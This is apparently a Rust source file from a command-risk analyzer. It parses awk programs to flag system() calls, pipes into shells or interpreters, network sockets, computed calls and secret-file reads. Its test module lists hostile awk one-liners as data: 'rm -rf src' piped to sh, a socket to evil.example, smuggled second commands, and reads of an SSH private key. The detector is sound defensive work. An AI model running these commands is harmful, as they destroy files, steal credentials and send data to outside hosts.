//! awk programs: `system`, pipes and files written.

use crate::chars::{UNKNOWN, has_hole};
use crate::effect::{Certainty, EffectKind, How, RiskLevel, Span};
use crate::engine::{Engine, Stream};
use crate::expand::Arg;
use crate::parse::Base;

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word(String),
    Str(String),
    Regex,
    Num,
    Op(char),
    /// `>>`
    Append,
    /// `||`, `>=` and other doubles that mean nothing here.
    Other,
    End,
}

fn lex(text: &str) -> Vec<Tok> {
    let c: Vec<char> = text.chars().collect();
    let at = |i: usize| c.get(i).copied().unwrap_or('\n');
    let mut out: Vec<Tok> = Vec::new();
    let mut i = 0;
    while i < c.len() {
        let ch = at(i);
        match ch {
            '#' => {
                while i < c.len() && at(i) != '\n' {
                    i += 1;
                }
            }
            '\n' | ';' | '{' | '}' => {
                out.push(Tok::End);
                i += 1;
            }
            _ if ch.is_whitespace() => i += 1,
            '"' => {
                let mut s = String::new();
                i += 1;
                while i < c.len() && at(i) != '"' {
                    if at(i) == '\\' {
                        s.push('\\');
                        i += 1;
                    }
                    s.push(at(i));
                    i += 1;
                }
                i += 1;
                out.push(Tok::Str(crate::escapes::ansi_c(&s).0));
            }
            '/' if !matches!(
                out.last(),
                Some(Tok::Word(_) | Tok::Num | Tok::Op(')' | ']'))
            ) =>
            {
                i += 1;
                while i < c.len() && at(i) != '/' {
                    if at(i) == '\\' {
                        i += 1;
                    }
                    i += 1;
                }
                i += 1;
                out.push(Tok::Regex);
            }
            _ if ch.is_ascii_digit() => {
                while i < c.len() && (at(i).is_ascii_alphanumeric() || at(i) == '.') {
                    i += 1;
                }
                out.push(Tok::Num);
            }
            _ if ch.is_alphabetic() || ch == '_' || ch == '@' => {
                let from = i;
                i += 1;
                while i < c.len() && (at(i).is_alphanumeric() || at(i) == '_') {
                    i += 1;
                }
                out.push(Tok::Word(
                    c.get(from..i).unwrap_or_default().iter().collect(),
                ));
            }
            '>' if at(i + 1) == '>' => {
                out.push(Tok::Append);
                i += 2;
            }
            '|' if at(i + 1) == '|' => {
                out.push(Tok::Other);
                i += 2;
            }
            // Pipes of gawk that go both ways: what is at their end is named in the same place.
            '|' if at(i + 1) == '&' => {
                out.push(Tok::Op('|'));
                i += 2;
            }
            '>' | '<' | '=' | '!' if at(i + 1) == '=' => {
                out.push(Tok::Other);
                i += 2;
            }
            _ => {
                out.push(Tok::Op(ch));
                i += 1;
            }
        }
    }
    out
}

impl Engine<'_> {
    pub(super) fn awk_code(&mut self, arg: &Arg) {
        let toks = lex(&arg.text);
        self.burn(toks.len());
        let span = arg.span;
        let mut printing = false;
        let mut depth = 0usize;
        for (i, t) in toks.iter().enumerate() {
            match t {
                Tok::End => {
                    printing = false;
                    depth = 0;
                }
                Tok::Op('(') => depth += 1,
                Tok::Op(')') => depth = depth.saturating_sub(1),
                Tok::Word(w) if matches!(w.as_str(), "print" | "printf") => {
                    printing = true;
                    depth = 0;
                }
                Tok::Word(w) if w == "system" => {
                    match (toks.get(i + 1), toks.get(i + 2), toks.get(i + 3)) {
                        (Some(Tok::Op('(')), Some(Tok::Str(s)), Some(Tok::Op(')')))
                            if !has_hole(s) =>
                        {
                            self.run_inner_shell(s, span);
                        }
                        (Some(Tok::Op('(')), Some(Tok::Str(s)), Some(_)) => {
                            // A command with fields appended: what is known of it, and a hole.
                            self.run_inner_shell(&format!("{s}{UNKNOWN}"), span);
                            self.dynamic(span, "awk runs a command that it builds from its input");
                        }
                        (Some(Tok::Op('(')), ..) => {
                            self.dynamic(span, "awk runs a command that it computes");
                        }
                        _ => {}
                    }
                }
                Tok::Word(w) if w == "getline" => {
                    if matches!(
                        i.checked_sub(1).and_then(|k| toks.get(k)),
                        Some(Tok::Op('|'))
                    ) {
                        self.awk_pipe(text_before(&toks, i - 1), false, span);
                    } else if matches!(toks.get(i + 1), Some(Tok::Op('<')))
                        || matches!(toks.get(i + 2), Some(Tok::Op('<')))
                    {
                        let file = toks.iter().skip(i).take(4).find_map(|t| {
                            if let Tok::Str(s) = t {
                                Some(s.clone())
                            } else {
                                None
                            }
                        });
                        let a = Arg::literal(file.unwrap_or_else(|| UNKNOWN.to_string()), span);
                        self.path_read(&a);
                    }
                }
                Tok::Op('|') if !matches!(toks.get(i + 1), Some(Tok::Word(w)) if w == "getline") => {
                    self.awk_pipe(text_after(&toks, i + 1), true, span);
                }
                // What is put among the arguments is opened like a file that was named there.
                Tok::Word(w) if w == "ARGV" => {
                    let value = toks
                        .iter()
                        .skip(i)
                        .take(24)
                        .position(|t| *t == Tok::Op('='))
                        .map(|n| i + n + 1);
                    if let Some(file) = value.and_then(|k| text_after(&toks, k)) {
                        self.path_read(&Arg::literal(file, span));
                    }
                }
                Tok::Op('>') | Tok::Append if printing && depth == 0 => {
                    // Only a string, name, field or bracket can be a file; `$3 > 5` compares.
                    match toks.get(i + 1) {
                        Some(Tok::Str(s)) => {
                            let partial = !matches!(toks.get(i + 2), None | Some(Tok::End));
                            let name = if partial {
                                format!("{s}{UNKNOWN}")
                            } else {
                                s.clone()
                            };
                            self.code_write(&Arg::literal(name, span));
                        }
                        _ => {
                            self.emit_raw(
                                EffectKind::Write,
                                None,
                                Certainty::Possible,
                                span,
                                RiskLevel::High,
                                "awk writes to a file whose name it computes",
                            );
                        }
                    }
                }
                Tok::Word(w) if w == "@load" || w == "@include" => {
                    self.dynamic(span, "awk loads other code");
                }
                Tok::Word(w) if w.starts_with('@') && w != "@namespace" => {
                    self.dynamic(span, "awk calls a function by a computed name");
                }
                _ => {}
            }
        }
        // Names of files are put together, handed on in variables: a secret that is named at all is
        // meant.
        if toks
            .iter()
            .any(|t| matches!(t, Tok::Word(w) if w == "getline" || w == "ARGV"))
        {
            for t in &toks {
                if let Tok::Str(s) = t
                    && s.contains(['/', '.'])
                    && self.classify(s).secret
                {
                    self.path_read(&Arg::literal(s.clone(), span));
                }
            }
        }
    }

    /// A command at the end of a pipe; `to`: it gets what awk prints.
    fn awk_pipe(&mut self, command: Option<String>, to: bool, span: Span) {
        let Some(command) = command.filter(|c| !has_hole(c)) else {
            self.dynamic(span, "awk has a pipe to a command that it computes");
            return;
        };
        if command.starts_with("/inet") {
            let why = "a socket of awk carries anything, unseen";
            self.emit_raw(
                EffectKind::Network,
                Some(command),
                Certainty::Certain,
                span,
                RiskLevel::High,
                why,
            );
            return;
        }
        // Whatever takes code from its input runs what awk prints, under whichever name it goes.
        let stdin = if to {
            Stream::unknown()
        } else {
            Stream::default()
        };
        self.run_text(&command, Base::Fixed(span), How::Code, &stdin, false);
    }
}

/// The text that begins at `i`, if it is nothing but strings up to the end of the statement.
fn text_after(toks: &[Tok], i: usize) -> Option<String> {
    let strings = toks.get(i..)?.iter().map_while(|t| {
        if let Tok::Str(s) = t {
            Some(s.as_str())
        } else {
            None
        }
    });
    let parts: Vec<&str> = strings.collect();
    let ends = matches!(
        toks.get(i + parts.len()),
        None | Some(Tok::End | Tok::Op(')'))
    );
    (ends && !parts.is_empty()).then(|| parts.concat())
}

/// The text in front of the token at `i`, if it is nothing but strings.
fn text_before(toks: &[Tok], i: usize) -> Option<String> {
    let strings = toks.get(..i)?.iter().rev().map_while(|t| {
        if let Tok::Str(s) = t {
            Some(s.as_str())
        } else {
            None
        }
    });
    let mut parts: Vec<&str> = strings.collect();
    parts.reverse();
    let before = i.checked_sub(parts.len() + 1).and_then(|k| toks.get(k));
    let begins = match before {
        None | Some(Tok::End | Tok::Op('(' | '!' | '&' | '?' | ':' | ',') | Tok::Other) => true,
        Some(Tok::Word(w)) => matches!(w.as_str(), "else" | "do" | "return" | "print"),
        // `while (…) "cmd" | getline`
        Some(Tok::Op(')')) => true,
        _ => false,
    };
    (begins && !parts.is_empty()).then(|| parts.concat())
}

#[cfg(test)]
mod tests {
    use crate::{RiskLevel, risk_of as risk};

    #[test]
    fn pipes_run_what_stands_at_their_end() {
        for cmd in [
            r#"awk '{print "rm -rf src" |& "sh"}' a"#,
            r#"awk 'BEGIN{print "rm -rf src"|&"sh"}'"#,
            r#"awk 'BEGIN{print "x" |& "/inet/tcp/0/evil.example/80"}'"#,
            r#"awk '{print | "node"}' a"#,
            r#"awk '{print | "ruby"}' a"#,
            r#"awk '{print | "python3.11"}' a"#,
            r#"awk '{print | "awk -f -"}' a"#,
            r#"awk '{print | "env sh"}' a"#,
            r#"awk '{print | "exec sh"}' a"#,
            r#"awk '{print | "(sh)"}' a"#,
            r#"awk '{print | "cat " "; rm -rf src"}' a"#,
            r#"awk 'BEGIN{"cat " "a; rm -rf src" | getline}'"#,
            r#"awk 'BEGIN{f="system"; @f("rm -rf src")}'"#,
            r#"awk -vx=system 'BEGIN{@x("rm -rf src")}'"#,
            r#"awk 'BEGIN{ARGV[1]="/home/dev/.ssh/id_rsa"; ARGC=2} {print}'"#,
            r#"awk 'BEGIN{f="/home/dev/.ssh/" "id_rsa"; while ((getline l < f) > 0) print l}'"#,
        ] {
            assert_eq!(risk(cmd), RiskLevel::High, "{cmd}");
        }
        for cmd in [
            r#"awk '{print | "sort -rn"}' a"#,
            r#"awk '{print $1 |& "sort"}' a"#,
            r#"awk '{print | "cat 1>&2"}' a"#,
            r#"awk '{ "date +%s" | getline now; print now }' a"#,
            r#"awk 'BEGIN { while (("ls src" | getline f) > 0) print f }'"#,
            r"awk 'NR==1{ARGV[ARGC++]=ARGV[1]} {print}' a.txt",
            r#"awk 'BEGIN{ARGV[1]="a.txt"; ARGC=2} {print}'"#,
            r#"awk '$1 == "a@b.example" {print}' a.txt"#,
        ] {
            assert_eq!(risk(cmd), RiskLevel::Low, "{cmd}");
        }
    }
}
